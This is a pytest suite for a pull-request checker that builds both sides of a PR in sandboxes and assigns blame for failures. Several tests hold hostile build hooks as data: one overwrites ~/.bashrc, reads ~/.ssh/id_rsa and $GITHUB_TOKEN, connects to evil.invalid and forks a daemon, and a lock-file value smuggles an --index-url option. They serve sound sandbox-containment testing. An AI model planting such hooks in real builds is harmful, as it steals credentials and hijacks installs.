"""Both sides of a pull request are resolved, built and opened, and whoever is at fault is named."""

import json
from collections.abc import AsyncGenerator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest
from break_outs import break_outs
from pr_house import SOURCE, add_source, new_house, project
from wheelhouse import Wheelhouse

from proofbox.server.assembly import open_app
from proofbox.server.programs import run
from proofbox.server.sandbox import Cell, Program
from proofbox.server.sandbox.local.backend import LocalBackend
from proofbox.server.settings import Settings
from proofbox.tools._app import App
from proofbox.tools.check_pr.environment.environment import Environments
from proofbox.tools.check_pr.environment.prepare import prepare_sides
from proofbox.tools.check_pr.environment.side import Side
from proofbox.tools.check_pr.pull.pull import Change, Pull, Tree
from proofbox.tools.check_pr.request import PrRequest

_WHEN = datetime(2019, 5, 1, tzinfo=UTC)


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Wheelhouse:
    """Packages that the projects here may need."""
    made = new_house(tmp_path_factory.mktemp("pr") / "house")
    made.add("solid", "1.0")
    made.add("solid", "2.0")
    made.add("picky", "1.0", requires=("solid<2",))
    made.add(
        "needs-old",
        "1.0",
        files={"needs_old/__init__.py": "import solid\nassert solid.__version__ < '2'\n"},
    )
    made.add("helper", "1.0")
    mark = made.directory / "ran"
    hostile = f"import pathlib, contextlib\nwith contextlib.suppress(OSError):\n    pathlib.Path({str(mark)!r}).touch()\n"
    source = {"hook.py": hostile, "src/srconly/__init__.py": "two = 2\n", "needs.txt": "helper\n"}
    add_source(made, "srconly", "1.0", source)
    add_source(made, "broken", "1.0", {"hook.py": "raise ValueError('never builds')"})
    return made


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Environments that were built for one test serve the next."""
    return tmp_path_factory.mktemp("cache")


@pytest.fixture
async def app(
    house: Wheelhouse, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncGenerator[App]:
    """Real sandboxes, and an index with what is in the house."""
    monkeypatch.setenv("UV_DEFAULT_INDEX", house.empty_index)
    monkeypatch.setenv("UV_FIND_LINKS", str(house.directory))
    async with open_app(Settings(), backend=LocalBackend(cache_dir=cache), warm=False) as opened:
        yield opened


@dataclass(frozen=True)
class Ready:
    """What came of it."""

    environments: Environments
    base: Side
    head: Side

    def blame(self) -> tuple[str, str]:
        """Whose fault it is, of base and of head."""
        return self.environments.base.fault, self.environments.head.fault


@asynccontextmanager
async def prepared(
    app: App, base: Mapping[str, bytes], head: Mapping[str, bytes], python: str = ""
) -> AsyncGenerator[Ready]:
    """The two trees, ready; on top of both the usual source."""
    before, after = ({**SOURCE, **files} for files in (base, head))
    paths = sorted(
        path for path in before.keys() | after.keys() if before.get(path) != after.get(path)
    )
    pull = Pull(
        "x",
        Tree("a" * 40, _WHEN, before),
        Tree("b" * 40, _WHEN, after),
        changes=tuple(Change(path, path, "modified") for path in paths),
    )
    told: list[str] = []
    async with prepare_sides(app, "me", pull, PrRequest("r"), python, told.append) as both:
        yield Ready(*both)
    assert told


async def value(side: Side, code: str) -> str:
    """The value of code in a side's sandbox, with the built files laid over its tree."""
    files = {**side.tree.files, **side.environment.built}
    laid = {f"project/{path}": content for path, content in files.items()}
    start = "import site, sys; site.main(); sys.path.insert(0, '/home/user/project/src')"
    program = Program("look", (Cell(start), Cell(code)), files=laid)
    async with run([program], side.open_sandbox, lanes=1) as ended:
        async for ran in ended:
            assert ran.result is not None, ran.error
            assert ran.result.outcome == "completed", ran.result
            return str(ran.result.cells[1].value)
    raise AssertionError


async def test_both_sides_are_resolved_built_and_opened(app: App) -> None:
    """Each with its own pins and what its build makes; nothing else can be imported."""
    base = {"pyproject.toml": project('"solid"')}
    head = {"pyproject.toml": project('"solid", "helper"', version='version = "1.1"\n')}
    look = (
        "import importlib.util as u, importlib.metadata as m, thing._version as v; "
        "[n for n in ('solid', 'helper', 'numpy', 'IPython', 'tinybuild') if u.find_spec(n)], "
        "m.version('thing'), v.version, m.entry_points(name='thing')[0].value"
    )
    async with prepared(app, base, head) as ready:
        of_base, of_head = [await value(side, look) for side in (ready.base, ready.head)]
        both = ready.environments

    assert of_base == "(['solid'], '1.0', '1.0', 'thing:main')"
    assert of_head == "(['solid', 'helper'], '1.1', '1.1', 'thing:main')"
    assert both.base.packages == ("coverage==7.10", "pluggy==1.6.0", "pytest==8.4.0", "solid==2.0")
    assert [(each.name, each.before, each.after) for each in both.differences] == [
        ("helper", "", "1.0")
    ]
    assert both.conflicts == ()
    assert ready.blame() == ("", "")
    assert "built by tinybuild in a sandbox" in both.head.how
    assert "src/thing/_version.py" in both.head.built


async def test_what_a_build_tries_is_told_and_stops_nothing(app: App) -> None:
    """Writing to the home, connecting, reading keys, a daemon that stays behind: and the host sees none of it."""
    hook = (
        "import os, socket, contextlib\n"
        "open(os.path.expanduser('~/.bashrc'), 'w').write('evil')\n"
        "with contextlib.suppress(OSError):\n    socket.create_connection(('evil.invalid', 443), 2)\n"
        "with contextlib.suppress(OSError):\n    open(os.path.expanduser('~/.ssh/id_rsa'))\n"
        "os.environ.get('GITHUB_TOKEN')\n"
        "if os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(600)\n"
    )
    base = {"pyproject.toml": project()}
    async with prepared(app, base, {**base, "hook.py": hook.encode()}) as ready:
        environments = ready.environments

    assert environments.base.behaviours == ()
    assert [(each.kind, each.what, each.where) for each in environments.head.behaviours] == [
        ("write", "~/.bashrc", "hook.py:2"),
        ("network", "evil.invalid:443", "hook.py:4"),
        ("credentials", "~/.ssh/id_rsa", "hook.py:6"),
        ("credentials", "$GITHUB_TOKEN", "hook.py:7"),
        ("process", "fork", "hook.py:8"),
    ]
    assert ready.blame() == ("", "")
    assert environments.head.built


@pytest.mark.parametrize(
    ("hook", "said"),
    [
        ("print('Successfully built thing')\nimport os\nos._exit(0)", "left no wheel"),
        ("raise ValueError('broken on purpose')", "broken on purpose"),
        (
            "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(os.getpid(), 9)",
            "build",
        ),
    ],
    ids=["leaves early", "raises", "kills the driver"],
)
async def test_a_build_that_fails_at_head_alone_is_the_projects_fault(
    app: App, hook: str, said: str
) -> None:
    """Whatever it prints, and however it leaves."""
    base = {"pyproject.toml": project()}
    async with prepared(app, base, {**base, "hook.py": hook.encode()}) as ready:
        assert ready.blame() == ("", "project")
        assert said in ready.environments.head.problem
        assert ready.environments.base.built


async def test_a_build_that_fails_on_both_sides_is_not_the_pull_requests_fault(app: App) -> None:
    """They are tested as they lie, with as much metadata as is written down, and the report says so."""
    broken = {"pyproject.toml": project(), "hook.py": b"raise ValueError('always')"}
    async with prepared(app, broken, {**broken, "src/thing/new.py": b""}) as ready:
        assert ready.blame() == ("", "")
        found = await value(ready.head, "import importlib.metadata as m; m.version('thing')")

    assert found == "'1.0'"
    assert any("Neither side can be built" in note for note in ready.environments.notes)


async def test_requirements_that_conflict_at_head_are_told_in_words(app: App) -> None:
    """uv's own explanation, before anything is installed."""
    base = {"pyproject.toml": project('"solid>=2"')}
    head = {"pyproject.toml": project('"solid>=2", "picky"')}
    async with prepared(app, base, head) as ready:
        both = ready.environments

    assert ready.blame() == ("", "project")
    (conflict,) = both.conflicts
    assert "picky" in conflict
    assert "solid<2" in conflict
    assert both.differences == ()


async def test_requirements_that_never_could_be_met_are_no_conflict_of_the_pull_request(
    app: App,
) -> None:
    """Base is as broken as head."""
    base = {"pyproject.toml": project('"nowhere-to-be-found"')}
    async with prepared(app, base, {**base, "src/thing/new.py": b""}) as ready:
        assert ready.blame() == ("project", "project")
        assert ready.environments.conflicts == ()
        assert "nowhere-to-be-found" in ready.environments.base.problem


async def test_a_new_package_that_cannot_be_imported_beside_the_others_is_a_conflict(
    app: App,
) -> None:
    """The resolver knows nothing of it; the import does."""
    base = {"pyproject.toml": project('"solid"')}
    async with prepared(app, base, {"pyproject.toml": project('"solid", "needs-old"')}) as ready:
        (conflict,) = ready.environments.conflicts

    assert conflict.startswith("needs-old 1.0 cannot be imported")
    assert "AssertionError" in conflict
    assert ready.blame() == ("", "")


async def test_head_keeps_bases_versions_where_its_requirements_accept_them(app: App) -> None:
    """A lock file that head changes counts for nothing that base has locked, and that is said."""
    lock = '[[package]]\nname = "solid"\nversion = "{}"\n'
    base = {"pyproject.toml": project('"solid"'), "uv.lock": lock.format("1.0").encode()}
    head = {
        "pyproject.toml": project('"solid", "helper"'),
        "uv.lock": lock.format("2.0").encode(),
    }
    async with prepared(app, base, head) as ready:
        both = ready.environments

    assert "solid==1.0" in both.base.packages
    assert "solid==1.0" in both.head.packages
    assert any(note.startswith("uv.lock changes") for note in both.notes)


async def test_a_lock_file_cannot_give_uv_options(app: App, house: Wheelhouse) -> None:
    """Its versions are written into a file that uv reads."""
    evil = '[[package]]\nname = "solid"\nversion = "1.0\\n--index-url https://evil.invalid"\n'
    base = {
        "pyproject.toml": project('"solid", "helper\\n--index-url https://evil.invalid"'),
        "uv.lock": evil.encode(),
    }
    async with prepared(app, base, base) as ready:
        both = ready.environments

    assert ready.blame() == ("", "")
    assert "solid==2.0" in both.base.packages
    assert any(
        note.startswith("Not installed, since they come from no index") for note in both.notes
    )


async def test_what_only_the_build_knows_is_installed_too(app: App) -> None:
    """Requirements that the metadata names, and what the backend wants before it builds."""
    dynamic = project(version='version = "1.0"\ndynamic = ["dependencies"]\n').replace(
        b"dependencies = []\n", b"", 1
    )
    files = {"pyproject.toml": dynamic, "needs.txt": b"helper\n", "more.txt": b"solid<2\n"}
    hook = b"import solid, sys\nassert solid.__version__ == '1.0'\n"
    async with prepared(app, files, {**files, "hook.py": hook}) as ready:
        both = ready.environments

    assert ready.blame() == ("", ""), both
    assert "helper==1.0" in both.head.packages
    assert "solid==1.0" not in both.head.packages


async def test_a_version_from_git_is_made_up_and_that_is_said(app: App) -> None:
    """Nothing of git is in the sandbox."""
    text = project(version='dynamic = ["version"]\n').replace(
        b'["tinybuild"]', b'["tinybuild", "setuptools-scm"]'
    )
    base = {
        "pyproject.toml": text,
        "PKG-INFO": b"Metadata-Version: 2.1\nName: thing\nVersion: 3.4\n",
    }
    async with prepared(app, base, base) as ready:
        both = ready.environments

    assert any("it was told 3.4" in note for note in both.notes), both.notes
    assert "src/thing-3.4.dist-info/entry_points.txt" in both.head.built


async def test_a_python_that_is_not_there_is_ours_and_named(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is judged on another one."""
    for name in ("PATH", "PYENV_ROOT", "XDG_DATA_HOME"):
        monkeypatch.setenv(name, str(tmp_path))  # else every Python of this machine is asked
    base = {"pyproject.toml": project()}
    async with prepared(app, base, base, "3.99") as ready:
        assert ready.blame() == ("ours", "ours")
        assert "no Python 3.99" in ready.environments.head.problem


async def test_an_index_that_cannot_be_reached_is_ours(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Never a conflict, and never a regression."""
    monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    monkeypatch.delenv("UV_FIND_LINKS")
    base = {"pyproject.toml": project('"solid"')}
    async with prepared(app, base, {"pyproject.toml": project('"solid", "helper"')}) as ready:
        assert ready.blame() == ("ours", "ours")
        assert ready.environments.conflicts == ()
        assert "index" in ready.environments.head.problem


async def test_a_build_that_was_done_is_not_done_again(app: App) -> None:
    """The second check of a repository finds what the first has made, behaviour included."""
    hook = b"import os, random\nos.environ.get('GITHUB_TOKEN')\nversion = str(random.random())\n"
    base = {"pyproject.toml": project(), "hook.py": hook}
    async with prepared(app, base, {**base, "src/thing/more.py": b""}) as ready:
        first = ready.environments
    async with prepared(app, base, {**base, "src/thing/more.py": b""}) as ready:
        again = ready.environments

    assert first == again
    assert [each.what for each in again.head.behaviours] == ["$GITHUB_TOKEN"]


async def test_a_package_that_is_source_only_is_built_in_a_sandbox(
    app: App, house: Wheelhouse
) -> None:
    """With what its own metadata requires; nothing of it runs on the host."""
    base = {"pyproject.toml": project()}
    async with prepared(app, base, {"pyproject.toml": project('"srconly"')}) as ready:
        both = ready.environments
        found = await value(ready.head, "import srconly; srconly.two")

    assert ready.blame() == ("", "")
    assert {"srconly==1.0", "helper==1.0"} <= set(both.head.packages)
    assert found == "2"
    assert not (house.directory / "ran").exists()


async def test_a_source_that_cannot_be_built_is_left_out_of_tests_or_ours(app: App) -> None:
    """Whether it is for tests alone or the project needs it."""
    group = b"[dependency-groups]\ntest = []"
    for_tests = project().replace(group, b'[dependency-groups]\ntest = ["broken"]')
    async with prepared(
        app, {"pyproject.toml": for_tests}, {"pyproject.toml": project('"broken"')}
    ) as ready:
        both = ready.environments

    assert ready.blame() == ("", "ours")
    assert "never builds" in both.head.problem
    assert any(note.startswith("Left out of base's tests") for note in both.notes), both.notes


@pytest.mark.slow
async def test_nothing_of_the_host_can_be_reached_while_a_project_is_built(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attempts of `doctor`, made by the script of a build."""
    with break_outs(tmp_path) as attempts:
        monkeypatch.setenv("PROOFBOX_TEST_SECRET", attempts.token)
        hook = (
            "import contextlib, io, json\n"
            f"for name, source in {attempts.sources!r}.items():\n"
            "    said = io.StringIO()\n"
            "    with contextlib.redirect_stdout(said):\n"
            "        exec(source, {})\n"
            "    with open('src/thing/probed.txt', 'a') as file:\n"
            "        file.write(said.getvalue())\n"
        )
        base = {"pyproject.toml": project()}
        async with prepared(app, base, {**base, "hook.py": hook.encode()}) as ready:
            head = ready.environments.head

    answers = [json.loads(line) for line in head.built["src/thing/probed.txt"].splitlines()]
    assert [answer["ran"] for answer in answers] == [attempts.proof] * len(attempts.sources)
    assert {answer["why"]: answer["got"] for answer in answers if answer["got"]} == {}
    assert ("process", "fork") in {(each.kind, each.what) for each in head.behaviours}
